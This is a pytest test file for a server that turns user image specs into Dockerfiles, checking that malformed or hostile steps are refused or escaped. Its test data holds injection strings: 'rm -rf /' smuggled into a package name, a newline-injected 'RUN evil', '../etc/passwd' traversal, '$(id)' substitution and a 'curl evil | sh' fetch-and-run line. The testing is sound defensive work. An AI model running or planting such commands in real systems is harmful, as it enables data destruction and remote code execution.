"""The image spec the server accepts: a narrow grammar, bounds, a stable content
address, and a Dockerfile a spec cannot add instructions to."""

from __future__ import annotations

import json

import pytest

from cloudpipe_proto.v1 import images_pb2 as pb
from cloudpipe_server.errors import InvalidArgument, ResourceExhausted
from cloudpipe_server.images import spec as s
from cloudpipe_server.images.convert import spec_from_pb
from cloudpipe_server.images.dockerfile import Base, render


def proto(*steps: pb.ImageStep, base: str = "") -> pb.ImageSpec:
    return pb.ImageSpec(base=base, steps=list(steps))


def run(*commands: str) -> pb.ImageStep:
    return pb.ImageStep(run_commands=pb.Commands(commands=list(commands)))


def files(*items: pb.File, destination: str = "/opt/x") -> pb.ImageStep:
    return pb.ImageStep(add_files=pb.Files(destination=destination, files=list(items)))


@pytest.mark.parametrize(
    ("step", "message"),
    [
        (pb.ImageStep(apt_install=pb.Packages(names=["figlet; rm -rf /"])), "not a apt_install package name"),
        (pb.ImageStep(apt_install=pb.Packages(names=["-o=Dpkg::Options"])), "not a apt_install package name"),
        (pb.ImageStep(pip_install=pb.Packages(names=["six @ http://x/six.whl"])), "not a pip_install package name"),
        (pb.ImageStep(pip_install=pb.Packages(names=["--index-url=x"])), "not a pip_install package name"),
        (pb.ImageStep(pip_install=pb.Packages()), "needs at least one package"),
        (pb.ImageStep(env=pb.Environment(variables={"A": "x\nRUN evil"})), "newline"),
        (pb.ImageStep(env=pb.Environment(variables={"1A": "x"})), "not a variable name"),
        (run(""), "empty command"),
        (files(pb.File(path="../etc/passwd", content=b"")), "not a relative path"),
        (files(pb.File(path="/etc/passwd", content=b"")), "not a relative path"),
        (files(pb.File(path="a", content=b""), destination="relative"), "not an absolute path"),
        (files(pb.File(path="a", content=b""), destination="/opt/../etc"), "not an absolute path"),
        (files(pb.File(path="a", content=b"", mode=0o4755)), "only permission bits"),
        (files(pb.File(path="a"), pb.File(path="a")), "given twice"),
        (pb.ImageStep(), "needs one of"),
    ],
)
def test_steps_outside_the_grammar_are_refused(step: pb.ImageStep, message: str) -> None:
    with pytest.raises(InvalidArgument, match=message):
        spec_from_pb(proto(step))


def test_sizes_are_bounded() -> None:
    with pytest.raises(ResourceExhausted, match="at most 64 steps"):
        spec_from_pb(proto(*[run("true")] * (s.MAX_STEPS + 1)))
    big = pb.File(path="big", content=b"x" * (s.MAX_FILE_BYTES_TOTAL // 2 + 1))
    with pytest.raises(ResourceExhausted, match="added files total"):
        spec_from_pb(proto(files(big), files(pb.File(path="b", content=big.content))))
    with pytest.raises(ResourceExhausted, match="at most 100 packages"):
        spec_from_pb(proto(pb.ImageStep(apt_install=pb.Packages(names=["a"] * 101))))


def test_the_digest_depends_on_content_account_and_base_only() -> None:
    one = spec_from_pb(proto(pb.ImageStep(env=pb.Environment(variables={"A": "1", "B": "2"}))))
    same = spec_from_pb(proto(pb.ImageStep(env=pb.Environment(variables={"B": "2", "A": "1"}))))
    assert s.digest_of(one, "alice", "base", "1") == s.digest_of(same, "alice", "base", "1")
    assert s.digest_of(one, "alice", "base", "1") != s.digest_of(one, "bob", "base", "1")
    assert s.digest_of(one, "alice", "base", "1") != s.digest_of(one, "alice", "other-base", "1")
    a = spec_from_pb(proto(files(pb.File(path="f", content=b"a"))))
    b = spec_from_pb(proto(files(pb.File(path="f", content=b"b"))))
    assert s.digest_of(a, "alice", "base", "1") != s.digest_of(b, "alice", "base", "1")
    reference = s.reference_of(s.digest_of(a, "alice", "base", "1"))
    assert s.digest_from_reference(reference) == reference.split(":")[1]
    assert s.digest_from_reference("cloudpipe/runner-python3:latest") is None


def test_a_spec_cannot_add_dockerfile_instructions() -> None:
    hostile = "echo hi\nRUN curl evil | sh\nUSER root"
    spec = spec_from_pb(proto(run(hostile), pb.ImageStep(env=pb.Environment(variables={"V": 'a" B="c $(id)'}))))
    recipe = render(spec, Base("sha256:runner"), account='eve" USER=0', digest="d" * 64, wheels={}, pip_tool=None)
    lines = recipe.dockerfile.splitlines()
    assert [line.split()[0] for line in lines] == ["FROM", "USER", "RUN", "ENV", "USER", "WORKDIR", "LABEL"]
    assert json.loads(lines[2][len("RUN ") :]) == ["/bin/bash", "-c", hostile]
    assert lines[3] == 'ENV V="a\\" B=\\"c \\$(id)"'
    assert lines[-3] == "USER 1000:1000"  # the image ends as the runner's user
    assert lines[-1].startswith('LABEL org.cloudpipe.account="eve\\" USER=0"')
    with pytest.raises(ValueError, match="control characters"):
        render(spec, Base("sha256:runner"), account="eve\nUSER 0", digest="d" * 64, wheels={}, pip_tool=None)
    assert len(recipe.steps_of) == len(lines) and recipe.steps_of[2] == 1 and recipe.steps_of[3] == 2
